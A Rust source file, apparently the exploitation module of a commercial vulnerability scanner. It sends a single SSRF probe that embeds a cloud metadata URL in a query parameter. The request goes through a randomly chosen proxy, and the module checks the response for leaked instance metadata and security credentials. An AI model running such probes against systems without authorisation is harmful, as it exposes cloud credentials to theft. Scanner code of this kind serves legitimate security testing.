// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Exploitation Module
 * Single SSRF follow-up probe for findings carrying an exploitable CVE
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use chrono::Utc;
use std::sync::Arc;
use tracing::{info, warn};

use crate::config::ScannerConfig;
use crate::http_client::{with_query_param, HttpClient, HttpResponse};
use crate::proxy::ProxyPool;
use crate::scanners::exploitable_cve;
use crate::types::{ExploitationAttempt, Finding};

const EXCERPT_LIMIT: usize = 512;

/// Markers of a cloud metadata document leaking through the target
const METADATA_INDICATORS: &[&str] = &[
    "ami-id",
    "instance-id",
    "instance-type",
    "local-ipv4",
    "security-credentials",
    "computeMetadata",
];

pub struct Exploiter {
    http_client: Arc<HttpClient>,
    pool: Arc<ProxyPool>,
    metadata_url: String,
    parameter: String,
}

impl Exploiter {
    pub fn new(http_client: Arc<HttpClient>, pool: Arc<ProxyPool>, config: &ScannerConfig) -> Self {
        Self {
            http_client,
            pool,
            metadata_url: config.metadata_url.clone(),
            parameter: config.exploit_parameter.clone(),
        }
    }

    /// Whether a finding qualifies for a follow-up probe
    pub fn is_eligible(finding: &Finding) -> bool {
        exploitable_cve(finding).is_some()
    }

    /// Issue one SSRF probe embedding the metadata URL, through a freshly
    /// selected proxy. Returns None for ineligible findings. Never retried;
    /// transport failures are logged and recorded as unsuccessful.
    pub async fn exploit(&self, finding: &Finding, target_url: &str) -> Option<ExploitationAttempt> {
        let cve = exploitable_cve(finding)?;

        let probe_url = with_query_param(target_url, &self.parameter, &self.metadata_url);
        let proxy = self.pool.select_random().await;

        let (success, response_excerpt) = match self
            .http_client
            .get_via(&probe_url, proxy.as_ref())
            .await
        {
            Ok(response) => {
                let success = leaks_metadata(&response);
                (success, Some(excerpt(&response.body)))
            }
            Err(e) => {
                warn!("[Exploit] SSRF probe for {} failed: {:#}", cve, e);
                (false, None)
            }
        };

        info!(
            "[Exploit] {} SSRF probe against {}: {}",
            cve,
            target_url,
            if success { "metadata exposed" } else { "no exposure" }
        );

        Some(ExploitationAttempt {
            target_finding: cve.to_string(),
            success,
            payload: probe_url,
            timestamp: Utc::now(),
            response_excerpt,
        })
    }
}

fn leaks_metadata(response: &HttpResponse) -> bool {
    response.is_success()
        && METADATA_INDICATORS
            .iter()
            .any(|marker| response.body.contains(marker))
}

fn excerpt(body: &str) -> String {
    body.chars().take(EXCERPT_LIMIT).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    fn response(status_code: u16, body: &str) -> HttpResponse {
        HttpResponse {
            status_code,
            body: body.to_string(),
            headers: HashMap::new(),
            duration_ms: 1,
        }
    }

    #[test]
    fn test_metadata_leak_detection() {
        assert!(leaks_metadata(&response(200, "ami-id\nhostname\ninstance-id\n")));
        assert!(!leaks_metadata(&response(500, "ami-id")));
        assert!(!leaks_metadata(&response(200, "<html>welcome</html>")));
    }

    #[test]
    fn test_excerpt_is_bounded_on_char_boundaries() {
        let body = "é".repeat(EXCERPT_LIMIT * 2);
        let cut = excerpt(&body);
        assert_eq!(cut.chars().count(), EXCERPT_LIMIT);
    }
}
